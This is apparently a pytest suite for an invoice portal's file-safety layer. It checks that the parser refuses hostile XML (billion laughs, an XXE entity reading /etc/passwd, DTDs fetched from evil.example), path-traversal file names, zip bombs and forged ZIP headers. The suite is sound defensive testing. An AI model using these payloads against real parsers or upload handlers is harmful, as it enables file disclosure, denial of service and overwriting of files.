from __future__ import annotations

import io
import os
import random
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from invoiceportal.invoices.extraction.errors import (
    ExtractionError,
    UnsafeFileError,
)
from invoiceportal.invoices.extraction.safety import (
    Limits,
    check_size,
    iter_zip_members,
    open_zip_safely,
    safe_parse_xml,
)
from invoiceportal.invoices.extraction.sniff import (
    DocumentFormat,
    check_filename,
    sniff,
)
from invoiceportal.invoices.extraction.types import InvoiceKind
from tests.docgen.ofd_doc import make_ofd
from tests.docgen.truth import random_invoice
from tests.docgen.xml_doc import make_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<EInvoice><Header><EIid>&lol9;</EIid></Header></EInvoice>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE EInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<EInvoice><EInvoiceData><BuyerInformation><BuyerName>&xxe;</BuyerName>
</BuyerInformation></EInvoiceData></EInvoice>"""
EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE EInvoice SYSTEM "http://evil.example/x.dtd">'
    b"<EInvoice/>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">'
    b"%p;]><x/>"
)
PLAIN_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE EInvoice [<!ELEMENT EInvoice ANY>]><EInvoice/>'
)
HIDDEN_DTD = b"<!--" + b"x" * 5000 + b"-->" + XXE.split(b"?>", 1)[1]

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(100)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, content in members.items():
            zf.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return out.getvalue()


def lie_about_size(data: bytes, declared: int) -> bytes:
    """Rewrite the uncompressed size in every local and central header."""
    buf = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (pos := buf.find(signature, start)) != -1:
            struct.pack_into("<I", buf, pos + offset, declared)
            start = pos + 4
    return bytes(buf)


def set_encrypted_flag(data: bytes) -> bytes:
    buf = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = buf.find(signature)
        flags = struct.unpack_from("<H", buf, pos + offset)[0]
        struct.pack_into("<H", buf, pos + offset, flags | 0x1)
    return bytes(buf)


def error_code(func, *args, **kwargs) -> str:
    with pytest.raises(ExtractionError) as exc:
        result = func(*args, **kwargs)
        if hasattr(result, "__next__"):
            list(result)
    return exc.value.code


# --- sniff -------------------------------------------------------------------------


def test_sniff_recognises_each_format_by_content() -> None:
    digital = random_invoice(random.Random(1), kind=InvoiceKind.DIGITAL_SPECIAL)
    legacy = random_invoice(random.Random(1), kind=InvoiceKind.E_ORDINARY)

    assert sniff(make_xml(digital)) is DocumentFormat.XML
    assert sniff(make_xml(digital, variant=3)) is DocumentFormat.XML  # GBK
    assert sniff(make_ofd(digital)) is DocumentFormat.OFD
    assert sniff(make_ofd(legacy, legacy=True)) is DocumentFormat.OFD
    assert sniff(PDF) is DocumentFormat.PDF
    assert sniff(b"junk before the header " + PDF) is DocumentFormat.PDF
    assert sniff(JPEG) is DocumentFormat.JPEG
    assert sniff(PNG) is DocumentFormat.PNG
    assert sniff(make_zip({"a.pdf": PDF})) is DocumentFormat.ZIP


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbf<?xml version='1.0'?><EInvoice/>",
        "<?xml version='1.0' encoding='UTF-16'?><EInvoice/>".encode("utf-16"),
        b"\n  <EInvoice><Header/></EInvoice>",
        b"<!-- comment --><EInvoice/>",
    ],
)
def test_sniff_xml_variants(data: bytes) -> None:
    assert sniff(data) is DocumentFormat.XML


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"hello, world",
        b"<!DOCTYPE html><html><body>invoice</body></html>",
        b"<html><body/></html>",
        b"GIF89a" + bytes(20),
        b"PK\x03",  # too short to be a ZIP
        b"\x00" * 64,
    ],
)
def test_sniff_unknown(data: bytes) -> None:
    assert sniff(data) is DocumentFormat.UNKNOWN


def test_sniff_ignores_the_ofd_name_of_a_plain_zip() -> None:
    # content decides: a ZIP with an 'ofd.xml' in a sub-folder is still a batch
    assert sniff(make_zip({"x/OFD.xml": b"<a/>"})) is DocumentFormat.ZIP
    assert sniff(make_zip({"OFD.xml": b"<a/>"})) is DocumentFormat.OFD


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_sniff_never_raises(data: bytes) -> None:
    assert isinstance(sniff(data), DocumentFormat)


# --- file names -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("发票.pdf", "发票.pdf"),
        ("  invoice 2024.xml ", "invoice 2024.xml"),
        ("scans/march/a.ofd", "a.ofd"),
        ("report.v2.final.pdf", "report.v2.final.pdf"),
    ],
)
def test_check_filename_accepts_plain_names(name: str, safe: str) -> None:
    assert check_filename(name) == safe


@pytest.mark.parametrize(
    "name",
    [
        "",
        "   ",
        "..",
        ".",
        "../etc/passwd",
        "a/../../b.pdf",
        "/etc/passwd",
        "C:\\Windows\\x.pdf",
        "C:x.pdf",
        "a\\b.pdf",
        "a\x00.pdf",
        "a\nb.pdf",
        "a\tb.pdf",
        "invoice\u202efdp.exe",  # right-to-left override hides the real extension
        "a" * 256 + ".pdf",
        "发" * 90 + ".pdf",  # 270 bytes of UTF-8
    ],
)
def test_check_filename_refuses_path_tricks(name: str) -> None:
    assert error_code(check_filename, name) == "bad_filename"


# --- sizes --------------------------------------------------------------------------


def test_empty_file_is_refused() -> None:
    assert error_code(check_size, b"") == "empty_file"


def test_oversized_file_is_refused_as_unsafe() -> None:
    with pytest.raises(UnsafeFileError) as exc:
        check_size(b"x" * 1025, Limits(max_bytes=1024))

    assert exc.value.code == "file_too_large"
    check_size(b"x" * 1024, Limits(max_bytes=1024))  # at the limit is fine


def test_default_limit_is_twenty_megabytes() -> None:
    assert Limits().max_bytes == 20 * 1024 * 1024
    assert error_code(check_size, bytes(20 * 1024 * 1024 + 1)) == "file_too_large"


# --- XML ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD, HIDDEN_DTD],
    ids=[
        "billion-laughs",
        "xxe",
        "external-dtd",
        "parameter-entity",
        "dtd",
        "late-dtd",
    ],
)
def test_hostile_xml_is_refused_as_unsafe(document: bytes) -> None:
    with pytest.raises(UnsafeFileError) as exc:
        safe_parse_xml(document)

    assert exc.value.code == "unsafe_xml"


def test_utf16_billion_laughs_is_refused() -> None:
    document = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"")
    utf16 = "\ufeff".encode("utf-16-le") + document.decode().encode("utf-16-le")

    assert error_code(safe_parse_xml, utf16) == "unsafe_xml"


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(ExtractionError) as exc:
        safe_parse_xml(XXE)

    assert "root:" not in str(exc.value) and "root:" not in repr(exc.value.details)


@pytest.mark.parametrize(
    "document",
    [b"<a><b></a>", b"<a>", b"not xml at all", b"<a>&undefined;</a>", b"<a/><b/>"],
)
def test_malformed_xml(document: bytes) -> None:
    assert error_code(safe_parse_xml, document) == "malformed_xml"


def test_xml_in_a_declared_unknown_encoding_is_malformed() -> None:
    document = b'<?xml version="1.0" encoding="no-such-codec"?><a/>'

    assert error_code(safe_parse_xml, document) == "malformed_xml"


# --- ZIP ------------------------------------------------------------------------------

SMALL = Limits(
    max_zip_entries=10,
    max_member_bytes=1024 * 1024,
    max_uncompressed_total=2 * 1024 * 1024,
    ratio_floor_bytes=16 * 1024,
    max_compression_ratio=50,
)


def test_high_ratio_member_is_a_zip_bomb() -> None:
    bomb = make_zip({"a.xml": bytes(512 * 1024)})  # ~1000:1

    with pytest.raises(UnsafeFileError) as exc:
        open_zip_safely(bomb, SMALL)

    assert exc.value.code == "zip_bomb"


def test_member_larger_than_the_member_limit_is_a_zip_bomb() -> None:
    big = make_zip({"a.bin": os.urandom(1024 * 1024 + 1)})

    assert error_code(open_zip_safely, big, SMALL) == "zip_bomb"


def test_default_limits_refuse_a_classic_bomb() -> None:
    bomb = make_zip({"zeros.bin": bytes(30 * 1024 * 1024)})  # 30 MB in ~30 KB

    assert error_code(open_zip_safely, bomb) == "zip_bomb"


def test_total_uncompressed_size_is_capped() -> None:
    members = {f"m{i}.bin": os.urandom(700 * 1024) for i in range(4)}

    assert error_code(open_zip_safely, make_zip(members), SMALL) == "zip_bomb"


def test_too_many_entries_is_a_zip_bomb() -> None:
    members = {f"f{i}.xml": b"<a/>" for i in range(11)}

    assert error_code(open_zip_safely, make_zip(members), SMALL) == "zip_bomb"
    assert open_zip_safely(make_zip(dict(list(members.items())[:10])), SMALL)


def test_header_that_understates_the_size_is_caught_while_reading() -> None:
    liar = lie_about_size(make_zip({"a.xml": bytes(900 * 1024)}), declared=100)
    zf = open_zip_safely(liar, SMALL)  # the central directory looks harmless

    with pytest.raises(UnsafeFileError) as exc:
        list(iter_zip_members(zf, SMALL))

    assert exc.value.code == "zip_bomb"


def test_header_that_overstates_the_size_is_corrupt() -> None:
    liar = lie_about_size(make_zip({"a.xml": b"<a/>" * 10}), declared=1000)

    assert error_code(iter_zip_members, open_zip_safely(liar, SMALL), SMALL) == (
        "corrupt_archive"
    )


def test_stored_member_that_understates_its_size_is_a_zip_bomb() -> None:
    liar = lie_about_size(
        make_zip({"a.bin": os.urandom(4096)}, zipfile.ZIP_STORED), declared=10
    )

    code = error_code(iter_zip_members, open_zip_safely(liar, SMALL), SMALL)

    # more stored bytes than the header declares: refused before anything is read
    assert code == "zip_bomb"


def test_flipped_bytes_in_a_member_are_corrupt() -> None:
    data = bytearray(make_zip({"a.txt": os.urandom(2000)}, zipfile.ZIP_STORED))
    data[100] ^= 0xFF

    assert error_code(iter_zip_members, open_zip_safely(bytes(data), SMALL), SMALL) == (
        "corrupt_archive"
    )


@pytest.mark.parametrize("cut", [3, 30, 200, -10])
def test_truncated_zip_is_corrupt(cut: int) -> None:
    data = make_zip({"a.xml": os.urandom(1000), "b.xml": b"<b/>"})

    assert error_code(open_zip_safely, data[:cut], SMALL) == "corrupt_archive"


def test_random_bytes_are_not_an_archive() -> None:
    assert error_code(open_zip_safely, os.urandom(4096), SMALL) == "corrupt_archive"


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "a/../../evil.xml", "/etc/cron.d/x", "a\\..\\b.xml", "C:/x.xml"],
)
def test_member_path_traversal_is_refused(name: str) -> None:
    data = make_zip({"ok.xml": b"<a/>", name: b"<b/>"})

    with pytest.raises(UnsafeFileError) as exc:
        open_zip_safely(data, SMALL)

    assert exc.value.code == "unsafe_archive_path"


def test_nested_zip_is_refused() -> None:
    inner = make_zip({"a.xml": b"<a/>"})
    outer = make_zip({"inner.zip": inner})

    code = error_code(iter_zip_members, open_zip_safely(outer, SMALL), SMALL)

    assert code == "nested_archive"


def test_ofd_inside_a_batch_is_a_document_not_a_nested_archive() -> None:
    ofd = make_ofd(random_invoice(random.Random(9), kind=InvoiceKind.DIGITAL_SPECIAL))
    outer = make_zip({"invoice.ofd": ofd}, zipfile.ZIP_STORED)

    members = list(iter_zip_members(open_zip_safely(outer), allow_ofd=True))

    assert members == [("invoice.ofd", ofd)]
    assert error_code(iter_zip_members, open_zip_safely(outer)) == "nested_archive"


def test_deeper_nesting_is_allowed_only_when_the_limit_allows() -> None:
    inner = make_zip({"a.xml": b"<a/>"})
    outer = make_zip({"inner.zip": inner})

    members = list(iter_zip_members(open_zip_safely(outer), Limits(max_zip_depth=2)))

    assert members == [("inner.zip", inner)]


def test_encrypted_archive_is_refused() -> None:
    data = set_encrypted_flag(make_zip({"a.xml": b"<a/>"}))

    assert error_code(open_zip_safely, data) == "encrypted_archive"


def test_gbk_member_names_are_repaired() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        info = zipfile.ZipInfo("x.xml")
        zf.writestr(info, b"<a/>")
    # rewrite the name bytes as GBK without the UTF-8 flag, as Chinese Windows does
    gbk = "发票.xml".encode("gbk")
    data = out.getvalue().replace(b"x.xml", gbk[:5])
    data = lie_name_length(data, gbk)

    [(name, content)] = list(iter_zip_members(open_zip_safely(data)))

    assert name == "发票.xml"
    assert content == b"<a/>"


def lie_name_length(data: bytes, name: bytes) -> bytes:
    """Replace the 5-byte placeholder name with ``name`` in both headers."""
    out = bytearray()
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    end = data.find(b"PK\x05\x06")
    lh = bytearray(data[local : local + 30])
    struct.pack_into("<H", lh, 26, len(name))
    body = data[local + 30 + 5 : central]
    out += lh + name + body
    new_central = len(out)
    ch = bytearray(data[central : central + 46])
    struct.pack_into("<H", ch, 28, len(name))
    out += ch + name + data[central + 46 + 5 : end]
    eocd = bytearray(data[end:])
    struct.pack_into("<I", eocd, 12, len(out) - new_central)
    struct.pack_into("<I", eocd, 16, new_central)
    out += eocd
    return bytes(out)
